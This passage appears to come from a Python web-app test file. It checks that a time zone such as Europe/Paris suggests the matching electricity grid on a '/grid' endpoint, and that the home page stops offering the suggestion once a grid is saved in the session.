    note = client.get("/grid", {"grid": "FRA", "zone": "Europe/Paris"}).text
    assert f"From your time zone (Europe/Paris): new runs use {france.name}" in note
    # A zone that does not name the grid is not claimed for it.
    assert "From your time zone" not in client.get("/grid", {"grid": "FRA", "zone": "UTC"}).text
    page = client.get("/").text
    assert 'data-grid-zone="/grid/zone"' in page
    session = client.session
    session["grid"] = "DEU"
    session.save()
    assert "data-grid-zone" not in client.get("/").text  # chosen: nothing to propose
